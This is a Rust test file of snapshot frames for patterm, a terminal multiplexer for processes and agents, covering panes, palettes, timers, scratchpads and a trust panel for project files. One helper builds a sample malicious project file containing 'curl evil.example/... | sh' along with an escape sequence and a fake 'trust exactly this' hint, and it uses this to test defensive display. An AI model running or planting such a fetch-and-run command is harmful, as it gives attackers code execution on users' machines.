//! Frames of every view, as text, at 80×24 and at 200×50. `PATTERM_FRAMES=write cargo test` updates them; read
//! the diff then.

use std::path::Path;

use super::view;
use crate::sample::{Sample, others};
use crate::update::{CallPurpose, Event};
use patterm_wire::follow::{
    HealthState, ProcessStatus, ProjectFileInfo, ProjectFileState, ProjectSnapshot,
};
use serde_json::json;

#[track_caller]
pub(super) fn check(name: &str, prepare: impl Fn(&mut Sample)) {
    check_from(name, Sample::new, prepare);
}

#[track_caller]
fn check_from(name: &str, begin: fn(u16, u16) -> Sample, prepare: impl Fn(&mut Sample)) {
    for (width, height) in [(80, 24), (200, 50)] {
        let mut sample = begin(width, height);
        prepare(&mut sample);
        let frame = view(&sample.model).text();
        let file = format!("frames/{name}-{width}x{height}.txt");
        let file = Path::new(env!("CARGO_MANIFEST_DIR")).join(file);
        if std::env::var_os("PATTERM_FRAMES").is_some() {
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(&file, &frame).unwrap();
        }
        let known = std::fs::read_to_string(&file).unwrap_or_default();
        assert!(frame == known, "{name} at {width}×{height} is now\n{frame}");
    }
}

#[test]
fn first_start() {
    check_from("first-start", Sample::empty, |_| ());
}

#[test]
fn first_start_in_tmux() {
    let within = |sample: &mut Sample, prefix: &str| {
        sample.model.tmux_prefixes = vec![prefix.to_owned(), "none".to_owned()];
    };
    check_from("first-start-in-tmux", Sample::empty, |sample| within(sample, "ctrl+b"));
    let mut sample = Sample::empty(80, 24);
    within(&mut sample, "ctrl+b");
    sample.handle(Event::Settings(Ok("leader = \"ctrl+g\"".to_owned())));
    assert!(!view(&sample.model).text().contains("tmux"), "there is no clash");
    within(&mut sample, "ctrl+g");
    sample.model.settings_path = "/etc/mine/patterm/tui.toml".to_owned();
    let shown = view(&sample.model).text();
    assert!(shown.contains("tmux uses ctrl+g too") && shown.contains("in /etc/mine/"), "{shown}");
    let mut sample = Sample::empty(80, 24);
    within(&mut sample, "ctrl+]");
    assert!(!view(&sample.model).text().contains("tmux"), "its prefix is another key");
}

#[test]
fn one_pane() {
    check("one-pane", |_| ());
}

#[test]
fn panes_side_by_side() {
    check("split", |sample| {
        sample.type_in("\x02|2\r");
        let pane = sample.model.focus;
        sample.show(pane, "helper waits");
        sample.type_in("\x02-3\r");
        let pane = sample.model.focus;
        sample.show(pane, "tests ask\r\n漢字 e\u{301} 🙂 done");
    });
}

#[test]
fn that_panes_are_hidden_is_more_important_than_how_many_programs_run() {
    let mut shown = 0;
    for width in 60..140 {
        let mut sample = Sample::new(width, 24);
        sample.type_in("\x02|2\r\x02z");
        let frame = view(&sample.model).text();
        assert!(!frame.contains("4 running") || frame.contains("zoomed"), "{width}: {frame}");
        shown += usize::from(frame.contains("zoomed"));
    }
    assert!(shown > 0);
}

#[test]
fn the_leaders_keys() {
    check("leader", |sample| {
        sample.type_in("\x02");
        sample.handle(Event::LeaderWaited);
    });
}

#[test]
fn the_leaders_keys_are_not_shown_at_once() {
    let mut sample = Sample::new(80, 24);
    sample.type_in("\x02");
    assert!(!view(&sample.model).text().contains("ctrl+b, then"));
    sample.model.now += super::LEADER_MS;
    assert!(view(&sample.model).text().contains("ctrl+b, then"));
}

#[test]
fn palette() {
    check("palette", |sample| {
        sample.type_in("\x02:pane");
    });
}

#[test]
fn help() {
    check("help", |sample| {
        sample.type_in("\x02?");
    });
}

#[test]
fn agents() {
    check("agents", |sample| {
        sample.type_in("\x02a");
    });
}

#[test]
fn first_instructions() {
    check("instructions", |sample| {
        sample.type_in("\x02a");
        sample.type_in("\rfix the lexer");
    });
}

#[test]
fn messages() {
    check("messages", |sample| {
        sample.type_in("\x02m");
    });
}

#[test]
fn all_projects() {
    let open = |sample: &mut Sample| {
        sample.model.project_key = "k1".to_owned();
        sample.type_in("\x02L");
        others(sample);
        sample.type_in("\x1b[Fk");
    };
    check("overview", open);
    check("answer", |sample| {
        open(sample);
        sample.type_in("\x1b[C");
    });
}

#[test]
fn timers() {
    check("timers", |sample| {
        let mut snapshot = sample.model.snapshot.clone();
        for (id, kind, waiting_on) in [
            ("t2", "idle_any", &["p2", "p3"][..]),
            ("t3", "idle_all", &["p2", "p3"]),
            ("t4", "idle_all", &["p2"]),
            ("t5", "exit", &["p5"]),
            ("t6", "full_moon", &[]),
        ] {
            let timer = json!({"id": id, "kind": kind, "paused": false, "owner": "p1",
                "waiting_on": waiting_on, "label": kind});
            snapshot.timers.push(serde_json::from_value(timer).unwrap());
        }
        sample.handle(Event::Snapshot(snapshot));
        sample.type_in("\x02t");
    });
}

#[test]
fn scratchpads() {
    check("scratchpads", |sample| {
        sample.type_in("\x02S");
        let pads = json!({"scratchpads": [
            {"name": "plan", "size": 120, "changed_by": "p1 (lead)"},
            {"name": "findings", "size": 3000, "changed_by": "a person's editor"},
        ]});
        sample.handle(Event::Answer(CallPurpose::Pads, Ok(pads)));
    });
}

#[test]
fn a_scratchpad() {
    check("scratchpad", |sample| {
        let content = "# Plan\n\nAll of this by *Friday*, see [the issue](https://example.org/7).\n\n\
            ## Steps\n\n- [x] the **lexer** first\n- [ ] then the parser\n  1. `expr()`\n  2. types\n\n\
            > ask 漢字 before\n> you push\n\n```rust\nfn main() {\n    run();\n}\n```\n\n\
            | who | does | left |\n|---|:-:|--:|\n| lead | parser | 12 |\n| helper | lexer | 3 |\n\n\
            ---\n\nA long line goes on and on, so that it must be broken somewhere near the edge of \
            the page, and again where the page is wider than that.\n";
        let pad = json!({"content": content});
        sample.handle(Event::Answer(CallPurpose::Pad("plan".to_owned()), Ok(pad)));
    });
}

#[test]
fn ports() {
    check("ports", |sample| {
        sample.type_in("\x02P");
        let ports = json!({"ports": [
            {"url": "http://localhost:5173/", "port": 5173, "listening": true},
            {"port": 9229, "listening": false},
        ]});
        sample.handle(Event::Answer(CallPurpose::Ports("p5".to_owned()), Ok(ports)));
    });
}

#[test]
fn servers() {
    check("servers", |sample| {
        sample.type_in("\x02M");
        let servers = json!({"servers": [
            {"name": "files", "state": "failed", "place": "/app/mcp in docker workspace-7",
                "in_flight": 0, "restarts": 3, "noise": 0, "last_error": "exited with code 1"},
            {"name": "search", "state": "running", "place": "search-mcp --stdio", "pid": 7,
                "in_flight": 2, "restarts": 0, "noise": 0, "tools": 4},
        ]});
        sample.handle(Event::Answer(CallPurpose::Servers, Ok(servers)));
    });
}

#[test]
fn attention() {
    check("attention", |sample| {
        let mut snapshot = crate::sample::project();
        snapshot.processes[4].attention = Some("the build is done".to_owned());
        sample.handle(Event::Snapshot(snapshot));
        sample.type_in("\x02u");
    });
}

#[test]
fn a_full_disk() {
    check("full-disk", |sample| {
        let mut snapshot = crate::sample::project();
        let problem = "the disk is full: its oldest output is dropped for the newest; make room";
        snapshot.processes[0].output_problem = Some(problem.to_owned());
        snapshot.disk_problem =
            Some("the disk of /state is full: nothing new is recorded".to_owned());
        sample.handle(Event::Snapshot(snapshot));
    });
}

#[test]
fn an_unhealthy_process() {
    check("unhealthy", |sample| {
        let mut snapshot = crate::sample::project();
        let dev = &mut snapshot.processes[3];
        (dev.status, dev.code, dev.declared) = (ProcessStatus::Running, None, true);
        dev.health = Some(HealthState::Unhealthy);
        dev.problem = Some(
            "it is unhealthy: http://127.0.0.1:3000/health answered with status 500".to_owned(),
        );
        snapshot.processes[4].health = Some(HealthState::Healthy);
        sample.handle(Event::Snapshot(snapshot));
        for _ in 0..3 {
            sample.type_in("\x02j");
        }
    });
}

#[test]
fn disk_problems_are_red() {
    let mut sample = Sample::new(80, 24);
    let mut snapshot = crate::sample::project();
    snapshot.processes[0].output_problem = Some("the disk is full".to_owned());
    snapshot.disk_problem = Some("the disk is full".to_owned());
    sample.handle(Event::Snapshot(snapshot));
    let red = sample.model.theme().bad.foreground;
    let canvas = view(&sample.model);
    let text = canvas.text();
    let marked: Vec<_> =
        text.lines().enumerate().filter(|(_, line)| line.contains("✗ the")).collect();
    assert_eq!(marked.len(), 3, "the tree, the pane and the last row:\n{text}");
    for (y, line) in marked {
        let before = line.split("✗ the").next().unwrap();
        let x = crate::canvas::text_width(before);
        assert_eq!(canvas.row(y as u16)[x].style.foreground, red, "row {y}: {line}");
    }
}

#[test]
fn scrollback() {
    check("scrollback", |sample| {
        let pane = sample.model.focus;
        let lines: String = (1..=120).map(|n| format!("line {n}\r\n")).collect();
        sample.show(pane, &lines);
        sample.type_in("\x02[/line 60\rV\x1b[A");
    });
}

#[test]
fn closing_asks() {
    check("confirm", |sample| {
        sample.type_in("\x02x");
    });
}

#[test]
fn a_program_that_ended() {
    check("ended", |sample| {
        sample.type_in("\x02\x1bOS");
        let pane = sample.model.focus;
        sample.show(pane, "error: port 5173 is taken\r\n");
    });
}

#[test]
fn no_server() {
    check("away", |sample| {
        sample.handle(Event::Lost);
    });
}

#[test]
fn what_happened_while_the_user_was_away() {
    check("digest", |sample| {
        let digest = serde_json::to_value(crate::sample::digest(sample.model.now)).unwrap();
        sample.handle(Event::Answer(CallPurpose::Digest { by_user: false }, Ok(digest)));
    });
}

#[test]
fn without_the_tree() {
    check("no-tree", |sample| {
        sample.type_in("\x02b");
    });
}

fn project_file(state: ProjectFileState) -> Event {
    let hash = Some("0123abcd".to_owned());
    Event::Snapshot(ProjectSnapshot {
        project_file: ProjectFileInfo { state, hash, changed: false },
        ..crate::sample::project()
    })
}

/// The panel for a malicious file.
pub(super) fn untrusted(sample: &mut Sample) {
    sample.handle(project_file(ProjectFileState::Untrusted));
    sample.type_in("\x02T");
    let long = "x".repeat(190);
    let script = "\n             | echo again".repeat(30);
    let would = format!(
        "process db\n  runs         postgres -D data\nprocess web, started at once\n  \
         runs         sh -c 'curl evil.example/{long} | sh # \\u{{1b}}[2J  t trust exactly this'\n  \
         with         PORT=3000\nprocess works\n  runs         sh -c 'set -e{script}'\n"
    );
    let answer = json!({"project_file": {"hash": "0123abcd", "would_run": would}});
    sample.handle(Event::Answer(CallPurpose::ProjectFile, Ok(answer)));
}

#[test]
fn a_project_file_that_is_not_trusted() {
    check("untrusted", |sample| {
        sample.handle(project_file(ProjectFileState::Untrusted));
        sample.model.notice = None;
    });
    check("trust", untrusted);
    check("trust-end", |sample| {
        untrusted(sample);
        sample.type_in("\x1b[F");
    });
}

#[test]
fn a_project_file_that_has_changed() {
    check("trust-changes", |sample| {
        let mut project = crate::sample::project();
        let state = ProjectFileState::Untrusted;
        let hash = Some("0123abcd".to_owned());
        project.project_file = ProjectFileInfo { state, hash, changed: true };
        sample.handle(Event::Snapshot(project));
        sample.type_in("\x02T");
        let changes = "  [processes.web]\n- command = \"old\"\n+ command = \"new\"\n";
        let would = "process web\n  runs         new\n";
        let file = json!({"hash": "0123abcd", "would_run": would, "changes": changes});
        let answer = json!({ "project_file": file });
        sample.handle(Event::Answer(CallPurpose::ProjectFile, Ok(answer)));
    });
}

#[test]
fn a_project_file_with_errors() {
    check("faulty", |sample| {
        sample.handle(project_file(ProjectFileState::Faulty));
        sample.type_in("\x02T");
        let fault = "/home/ada/compiler/patterm.toml:2:1: unknown key `comand` in `processes.web`; \
            did you mean `command`?";
        let answer = json!({"project_file": {"hash": "0123abcd", "faults": [fault]}});
        sample.handle(Event::Answer(CallPurpose::ProjectFile, Ok(answer)));
    });
}

#[test]
fn processes_to_restore() {
    check_from("restore", Sample::after_the_end, |sample| {
        sample.type_in("\x1b[B ");
    });
}

#[test]
fn a_postponed_restore_is_in_the_palette() {
    check_from("restore-palette", Sample::after_the_end, |sample| {
        sample.type_in("\x1b");
        sample.type_in("\x02:");
    });
}

#[test]
fn restored_processes_with_problems() {
    check_from("restored", Sample::after_the_end, |sample| {
        sample.type_in("\r");
        let answer = json!({"processes": [
            {"process_id": "p1", "name": "lead", "how": "resumed"},
            {"process_id": "p2", "name": "helper", "how": "anew",
                "reason": "its CLI never reported its conversation's id"},
            {"process_id": "p5", "name": "bash", "how": "not", "reason": "no such folder"},
        ]});
        sample.handle(Event::Answer(CallPurpose::Restore, Ok(answer)));
    });
}

#[test]
fn settings_with_an_error() {
    check("settings-fault", |sample| {
        let text = "[keys]\nzom = \"f\"\n";
        sample.handle(Event::Settings(Ok(text.to_owned())));
    });
}

#[test]
fn hints_name_the_keys_in_effect() {
    let own = || Event::Settings(Ok("leader = \"alt+a\"\n".to_owned()));
    let mut sample = Sample::new(120, 24);
    sample.handle(own());
    sample.handle(project_file(ProjectFileState::Untrusted));
    sample.model.notice = None;
    let shown = view(&sample.model).text();
    assert!(shown.contains("not trusted (alt+a T)"), "{shown}");
    let mut sample = Sample::after_the_end(120, 24);
    sample.handle(own());
    sample.type_in("\x1b");
    let shown = view(&sample.model).text();
    assert!(shown.contains("postponed; it is in the palette (alt+a :)"), "{shown}");
}

#[test]
fn custom_keys() {
    check("own-keys", |sample| {
        let text = "leader = \"alt+space\"\n[keys]\nzoom = \"f11\"\nstop = false\n\
            go-to = [\"f1\", \"f2\", \"f3\"]\n[direct]\n\"alt+left\" = \"previous-pane\"\n";
        sample.handle(Event::Settings(Ok(text.to_owned())));
        sample.type_in("\x1b ?");
    });
}
